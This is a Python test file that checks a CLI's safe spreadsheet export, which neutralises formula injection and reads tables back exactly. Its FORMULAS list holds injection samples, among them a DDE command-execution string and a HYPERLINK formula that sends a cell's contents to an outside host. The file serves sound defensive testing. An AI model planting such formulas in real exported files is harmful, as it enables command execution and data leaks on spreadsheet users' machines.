"""A table that a spreadsheet opens runs nothing, and is read back exactly."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from command import refused, run
from hypothesis import example, given
from hypothesis import strategies as st

from edge_icl.cli.spreadsheets import guarded, unguarded

pytest_plugins = ["cli_fixtures"]

FORMULAS = (
    '=HYPERLINK("http://elsewhere/" & A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "  =1+1",
    '"=1+1"',
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''@x",
)
HARMLESS = ("travel", "it's", "a = b", "'quoted'", "1+1", "", "'", ";", "a, -b")


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_a_text(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_runs_nothing_is_left_alone(cell: str) -> None:
    assert guarded(cell) == unguarded(cell) == cell


@pytest.mark.parametrize("cell", ["\t=1+1", "\r=1+1", "a;=1+1", "a\n@x", 'a;"=1"', "a;'=1"])
def test_a_formula_within_a_text_becomes_text(cell: str) -> None:
    assert guarded(cell).count("'") == cell.count("'") + 1
    assert unguarded(guarded(cell)) == cell


@given(st.text(st.sampled_from("'\"=+-@; \t\r\n\u200b\uff1dab1")) | st.text())
@example("'=")
def test_every_cell_comes_back(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell


@pytest.mark.usefixtures("home")
@pytest.mark.parametrize("kind", ["csv", "tsv"])
def test_a_safe_table_is_read_back_as_the_same_store(tmp_path: Path, kind: str) -> None:
    texts = [one for one in FORMULAS if kind == "csv" or not set(one) & set("\t\r\n")]
    texts += ["a;=1+1", 'semi;"-1"', *(["\t=1+1", "\r=1+1", "a\n;=1", 'q";=1'] if kind == "csv" else [])]
    rows = [{"input": one, "output": f"{one} again", "tags": [one.strip()], "source": one} for one in texts]
    assert run("add", "--file", "-", stdin="\n".join(map(json.dumps, rows))).code == 0
    file = tmp_path / f"safe.{kind}"

    assert run("export", "--safe", "--vectors", "--file", str(file)).code == 0
    assert run("--store", "copy", "import", "--safe", str(file)).code == 0
    assert _sorted("copy") == _sorted("default")
    assert run("--store", "raw", "import", "--skip-bad", str(file)).code == 0
    assert _sorted("raw") != _sorted("default")

    if kind == "csv":
        with file.open(newline="", encoding="utf-8") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        for separator in ",;":  # as spreadsheets of both kinds of countries part them
            with file.open(newline="", encoding="utf-8") as stream:
                cells += [cell for row in csv.reader(stream, delimiter=separator) for cell in row]
        assert [cell for cell in cells if cell.lstrip()[:1] in {*"=+-@"}] == []


def test_safe_is_for_tables(home: Path, tmp_path: Path) -> None:
    refused(run("export", "--safe"), "--safe is for spreadsheets", code=2)
    (tmp_path / "a.jsonl").write_text('{"input": "a", "output": "b"}')
    refused(run("add", "--safe", "--file", str(tmp_path / "a.jsonl")), "--safe is for tables", code=2)


def _sorted(store: str) -> list[str]:
    """What a store holds, whatever its seed."""
    return sorted(run("--store", store, "export").out.splitlines())
